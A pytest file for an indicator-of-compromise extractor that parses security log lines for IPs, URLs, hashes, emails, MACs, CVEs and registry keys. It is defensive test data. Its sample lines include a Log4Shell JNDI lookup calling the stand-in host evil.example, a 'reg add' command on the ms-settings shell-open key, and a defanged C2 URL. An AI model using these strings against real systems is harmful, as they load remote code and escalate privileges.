"""What is found in the lines of logs, and what only looks like it."""

from __future__ import annotations

import pytest

from socdomain.sources.observables import find_observables
from tests.unit.sources.observables.finding import found

MD5 = "0cc175b9c0f1b6a831c399e269772661"
SHA1 = "86f7e437faa5a7fce15d1ddcb9eaeaea377667b8"
SHA256 = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"


@pytest.mark.parametrize(
    ("line", "observables"),
    [
        (
            "Aug 20 08:00:56 web-01 sshd[2231]: Failed password for root from 203.0.113.9 port 50122 ssh2",
            ["ipv4 203.0.113.9"],
        ),
        (
            '198.51.100.7 - - [20/Aug/2026:08:00:56 +0000] "GET /?x=${jndi:ldap://evil.example:1389/a} HTTP/1.1" 200 5',
            ["url ldap://evil.example:1389/a", "domain evil.example", "ipv4 198.51.100.7"],
        ),
        (
            r"reg add HKCU\Software\Classes\ms-settings\Shell\Open\command /d C:\x.exe /f",
            [r"registry_key HKEY_CURRENT_USER\software\classes\ms-settings\shell\open\command"],
        ),
        (
            f"Hashes: SHA1={SHA1.upper()},MD5={MD5.upper()},SHA256={SHA256},IMPHASH={MD5[::-1]}",
            [f"sha1 {SHA1}", f"md5 {MD5}", f"sha256 {SHA256}"],
        ),
        (
            "from=<bob@evil.example>, to=<alice@corp.example>, relay=mx.corp.example[203.0.113.25]:25",
            ["email bob@evil.example", "email alice@corp.example", "ipv4 203.0.113.25"],
        ),
        (
            "%ASA-6-302014: Teardown TCP connection 5 for outside:203.0.113.9/80 to inside:10.0.0.5/51234",
            ["ipv4 203.0.113.9", "ipv4 10.0.0.5"],
        ),
        (
            "%ASA-6-106100: permitted tcp inside/10.0.0.5(1234) -> outside/203.0.113.9(80)",
            ["ipv4 10.0.0.5", "ipv4 203.0.113.9"],
        ),
        (
            "dhcpd: DHCPACK on 10.0.0.5 to 00:00:5e:00:53:af (WS01) via eth0, was 00-00-5E-00-53-B0 or 0000.5e00.53b1",
            ["ipv4 10.0.0.5", "mac 00:00:5e:00:53:af", "mac 00:00:5e:00:53:b0", "mac 00:00:5e:00:53:b1"],
        ),
        ("affected by cve-2021-44228 (CVE-2021-45046).", ["cve CVE-2021-44228", "cve CVE-2021-45046"]),
        (
            "C2 at hxxps[:]//evil[.]example/gate[.]php, 203[.]0[.]113[.]9 and bob[at]evil[dot]example",
            ["url https://evil.example/gate.php", "domain evil.example", "email bob@evil.example", "ipv4 203.0.113.9"],
        ),
        (
            "connect [2001:db8::1]:443, fe80::1%eth0, ::1, outside:2001:db8::2/53, src=::ffff:203.0.113.9.",
            ["ipv6 2001:db8::1", "ipv6 fe80::1", "ipv6 ::1", "ipv6 2001:db8::2", "ipv4 203.0.113.9"],
        ),
        ("via 64:ff9b::192.0.2.33", ["ipv6 64:ff9b::c000:221"]),
        ("2001:db8:1:2:3:4:5:6: bad packet", ["ipv6 2001:db8:1:2:3:4:5:6"]),
        (r'{"msg":"Source Address:\t203.0.113.9\r\n' + rf'Hash:\n{MD5}"}}', ["ipv4 203.0.113.9", f"md5 {MD5}"]),
    ],
)
def test_a_log_line_gives_its_observables(line: str, observables: list[str]) -> None:
    assert found(line) == observables


@pytest.mark.parametrize(
    "text",
    [
        f"{MD5}0",
        f"0{MD5}",
        f"x{MD5}",
        f"{MD5}z",
        SHA256 + SHA256,
        "1" * 32,
        "a" * 32,
        "0" * 40,
        f"imphash: {MD5}",
        "type=SOCKADDR saddr=0200028F000000000000000000000000",
        "proctitle=2F62696E2F7368002D63006964206C73",
        f"arn:aws:lambda:us-east-1::runtime:{SHA256}",
        f'{{"Actor": {{"ID": "{SHA256}", "name": "bridge"}}}}',
        f'{{"Id":"sha256:{SHA256}"}}',
        f'{{\\"ID\\":\\"{SHA256}\\"}}',
        "90020230523204756343781000000000000001223372037583230452",
        "f81d4fae-7dec-11d0-a765-00a0c91e6bf6",
    ],
)
def test_no_digest_is_cut_out_of_other_digits(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    "text",
    [
        f"sha256:{SHA256}",
        f'{{"sha256":"{SHA256}"}}',
        f'{{"id":"{SHA256}"}}',
        f"saddr=0, {SHA256}",
        f"proctitle=bash runtime: {SHA256}",
    ],
)
def test_a_digest_is_one_whatever_else_stands_before_it(text: str) -> None:
    """VirusTotal's id of a file is its digest."""
    assert found(text) == [f"sha256 {SHA256}"]


@pytest.mark.parametrize(
    "text",
    [
        "svchost.exe",
        "System.Net.WebClient",
        "evil.example",
        r"C:\Windows\x.dll",
        "/usr/bin/find",
        r"CORP\bob",
        "WS01",
        "SYSTEM\\CurrentControlSet",
        "xHKLM\\Software\\x",
        "HKLM",
        "HKLM and more",
        "xCVE-2021-44228",
        "CVE-2021-442",
    ],
)
def test_names_are_not_guessed_at(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    ("text", "key"),
    [
        (
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion was read",
            r"software\microsoft\windows nt\currentversion",
        ),
        (r"'[x64] HKLM\SYSTEM\Control\Session Manager' modified", r"system\control\session manager"),
        (r'reg query "HKLM\Software\my own app" /v x', r"software\my own app"),
        (r"HKLM\Software\Foo Was Changed by me", r"software\foo"),
        (r"HKLM\Software\Foo and C:\x", r"software\foo"),
        (r"Key: HKLM\Software\Foo.", r"software\foo"),
        ('"HKLM\\Software\\Foo\nBar"', r"software\foo"),
        (r"(HKLM\Software\{1-2}\Foo (x64))", r"software\{1-2}\foo (x64)"),
        ("Object Name:\t\\REGISTRY\\MACHINE\\SOFTWARE\\Internet Explorer\r\n\tHandle", r"software\internet explorer"),
        (r"HKLM\\\\SOFTWARE\\\\Terminal Services -> fAllow", r"software\terminal services"),
    ],
)
def test_a_registry_key_ends_where_the_sentence_goes_on(text: str, key: str) -> None:
    assert found(text) == [f"registry_key HKEY_LOCAL_MACHINE\\{key}"]


def test_a_registry_key_does_not_run_into_the_next() -> None:
    assert found(r"HKLM\Software\Foo HKCU\Bar") == [
        r"registry_key HKEY_LOCAL_MACHINE\software\foo",
        r"registry_key HKEY_CURRENT_USER\bar",
    ]


def test_a_text_may_be_nothing_but_an_observable() -> None:
    texts = ["::1", "1.2.3.4", MD5, "a@b.example", "CVE-2021-44228", "00:00:5e:00:53:af", "http://203.0.113.9/"]
    assert [found(text)[0].partition(" ")[2] for text in texts] == texts


def test_each_is_found_once_however_often_it_is_there() -> None:
    assert found("203.0.113.9 203[.]0[.]113[.]9 ::ffff:203.0.113.9") == ["ipv4 203.0.113.9"]


def test_what_one_line_says_does_not_bear_on_the_next() -> None:
    assert found(f"imphash=\n{MD5}\nversion\n203.0.113.9\nkrbtgt/\ncorp.example@corp.example") == [
        "email corp.example@corp.example",
        "ipv4 203.0.113.9",
        f"md5 {MD5}",
    ]


def test_nothing_spans_a_line_break() -> None:
    assert found("http://evil.example/a\nb 203.0.113\n.9 bob@evil\n.example") == [
        "url http://evil.example/a",
        "domain evil.example",
    ]


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "[.",
        "a[",
        "a[.]",
        "a.",
        "\\n",
        "\\na[.]com[",
        ":\\/\\/",
        "0:0::/",
        "@",
        "a@",
        "a.b@",
        "@a.",
        "1.",
        "::",
        "1:",
        "aa:",
        "aa-",
        "aaaa.",
        "a",
        "//",
        "://",
        "http://",
        "hxxp:",
        "http://a)",
        "\\",
        "HKLM\\",
        "HKLM\\a ",
        "HKLM\\a B C ",
        '"HKLM\\a ',
        "\\REGISTRY\\USER\\",
        "CVE-",
        "\ud800",
        "\x00",
    ],
)
def test_a_long_text_of_anything_is_searched_in_linear_time(piece: str) -> None:
    """Were a pattern to read a run again from each of its characters, this would take minutes."""
    text = piece * (300_000 // len(piece))
    assert len(find_observables(text)) <= 2
